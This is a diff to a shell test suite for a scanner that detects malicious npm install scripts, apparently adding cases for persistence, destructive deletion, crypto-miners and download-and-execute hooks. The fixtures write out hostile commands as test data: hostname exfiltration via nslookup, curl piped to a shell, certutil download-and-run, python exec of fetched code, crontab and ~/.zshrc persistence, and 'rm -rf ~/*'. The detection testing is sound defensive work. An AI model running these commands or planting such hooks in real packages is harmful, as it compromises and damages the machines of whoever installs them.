@@ -39,6 +39,8 @@ import json, sys
 for l in open(sys.argv[1]):
     for f in json.loads(l)["findings"]: print(f["message"])' "${1:-$TMP/out.jsonl}"; }
 
+has_str() { case "$1" in *"$2"*) ok 0 "$3" ;; *) ok 1 "$3"; _diag "no '$2' in: $1" ;; esac; }
+
 # ---- 1. lifecycle scripts -------------------------------------------------
 is "$(found "$(hooks '{ "preinstall": "nslookup `hostname`.x1.oast.invalid" }')")" \
   "pkg.install-script.exfiltration critical package.json" "nslookup of a name built from hostname"
@@ -63,7 +65,6 @@ is "$(found "$(hooks '{ "postinstall": "nohup node index.js > /dev/null 2>&1 &" 
 d=$(hooks '{ "postinstall": "npm run setup", "setup": "curl -s https://dl.example.com/x | bash" }')
 is "$(found "$d" | head -1)" "pkg.install-script.download-exec critical package.json" \
   "followed through npm run setup"
-has_str() { case "$1" in *"$2"*) ok 0 "$3" ;; *) ok 1 "$3"; _diag "no '$2' in: $1" ;; esac; }
 has_str "$(messages)" 'through the "setup" script it runs' "the message names the script run"
 
 benign='{ "install": "node-gyp rebuild", "prepare": "husky install && tsc -p .",
@@ -77,6 +78,35 @@ is "$(found "$(hooks '{ "postinstall": "curl -sL https://github.com/x/y/releases
   "twin: a download unpacked by tar, not run by a shell"
 is "$(found "$(hooks '{ "install": "curl -sL -o \"$HOME/.cache/t/$(uname -m).tgz\" https://dl.example.com/t-$npm_package_version.tgz" }')")" "" \
   "twin: a substitution in the output path, a version variable in the URL"
+
+# start-up entries, deleted homes, miners (pkg.install-script.payload)
+pay="pkg.install-script.payload critical package.json"
+is "$(found "$(hooks '{ "postinstall": "echo \"node $PWD/index.js &\" >> ~/.zshrc" }')")" "$pay" \
+  "an append to ~/.zshrc"
+is "$(found "$(hooks '{ "postinstall": "(crontab -l; echo \"@reboot node x.js\") | crontab -" }')")" "$pay" \
+  "a new crontab piped in"
+is "$(found "$(hooks '{ "preinstall": "rm -rf ~/*" }')")" "$pay" "rm -rf ~/*"
+is "$(found "$(hooks '{ "postinstall": "./bin/kw -o stratum+tcp://pool.example.invalid:3333" }')")" "$pay" \
+  "a stratum pool on a command line"
+is "$(found "$(hooks '{ "postinstall": "rm -rf dist build && echo done >> build.log && crontab -l" }')")" "" \
+  "twins: rm -rf of the package's folders, a log append, crontab -l"
+# a shell file of the package run by the hook is read as part of it
+d=$(pkg '{ "name": "sh-file", "version": "1.0.0", "scripts": { "postinstall": "sh scripts/setup.sh" } }' \
+  scripts/setup.sh 'curl -s https://dl.example.com/x | sh')
+is "$(found "$d")" "pkg.install-script.download-exec critical package.json" "sh scripts/setup.sh → its curl | sh"
+has_str "$(messages)" 'through the "scripts/setup.sh" script it runs' "... named in the message"
+d=$(pkg '{ "name": "sh-file", "version": "1.0.0", "scripts": { "postinstall": "bash ./build.sh" } }' \
+  build.sh 'tsc -p . && cp -r assets dist/')
+is "$(found "$d")" "" "twin: a shell file that builds offline"
+d=$(pkg '{ "name": "win-drop", "version": "1.0.0", "scripts": { "install": "certutil -urlcache -split -f https://dl.example.com/u.exe u.exe && u.exe" } }')
+is "$(found "$d")" "pkg.install-script.download-exec critical package.json" "certutil download, then run"
+d=$(pkg '{ "name": "bun-hook", "version": "1.0.0", "scripts": { "preinstall": "bun run runner.js" } }' \
+  runner.js 'require("child_process").execSync("curl -s https://x.example.com");')
+is "$(found "$d")" "pkg.install-time.child-process high runner.js" "bun run FILE is install-time code"
+is "$(found "$(hooks '{ "preinstall": "python3 -c \"import urllib.request as u; exec(u.urlopen(\u0027https://x.example.com/p\u0027).read())\"" }')")" \
+  "pkg.install-script.download-exec critical package.json" "python -c that fetches and execs"
+is "$(found "$(hooks '{ "postinstall": "python3 -c \"import sys; print(sys.version)\"" }')")" "" \
+  "twin: python -c that prints its version"
 
 deep=$(python3 -c 'print("$(" * 300 + "x")')
 d=$(hooks "{ \"postinstall\": \"$deep\" }")
